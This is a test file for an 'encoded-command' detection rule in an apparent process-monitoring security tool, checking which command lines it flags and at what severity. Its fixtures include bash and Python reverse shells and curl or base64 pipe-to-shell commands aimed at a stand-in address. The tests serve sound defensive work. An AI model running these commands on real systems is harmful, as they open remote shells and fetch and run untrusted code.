import { evaluateRule } from 'salvor/testing'
import { expect, test } from 'vitest'
import rule from '../../../dist/plugins/rules/execution/encoded-command.js'

const find = (args: string[] | null, exe = '/usr/bin/bash') =>
  evaluateRule(rule, { processes: [{ pid: 7, comm: 'x', exe, args }] })

test.each([
  [['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1; true'], 'high'],
  [['bash', '-c', 'echo aWQK | base64 -d | sh'], 'high'],
  [['sh', '-c', 'curl -s http://198.51.100.7/i | sh'], 'medium'],
  [['sh', '-c', 'A'.repeat(500)], 'low'],
])('%j is %s', (args, severity) => {
  expect(find(args)).toMatchObject([{ about: { pid: 7 }, severity }])
})

test('of other languages too', () => {
  const code = 'import base64;exec(base64.b64decode("aW1wb3J0IG9z"))'
  expect(find(['python3', '-c', code], '/usr/bin/python3.11')).toMatchObject([{ severity: 'high' }])
  const back = 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",1));os.dup2(s.fileno(),0)'
  expect(find(['python3', '-c', back], '/usr/bin/python3.11')).toMatchObject([{ severity: 'high' }])
})

test.each([
  [['bash', '-c', 'until echo > /dev/tcp/db/5432; do sleep 1; done']],
  [['sh', '-c', 'while :; do date > /tmp/batch.last; sleep 3600; done']],
  [['sh', '-c', 'curl https://example.org/health']],
  [null],
])('%j is none', (args) => {
  expect(find(args)).toEqual([])
})

test('nor is what a program gets that runs no texts, and long arguments take no long time', () => {
  expect(find(['grep', 'base64 -d | sh'], '/usr/bin/grep')).toEqual([])
  expect(find(['sh', '-c', 'curl wget exec socket sh -i '.repeat(5000)])).toHaveLength(0)
})
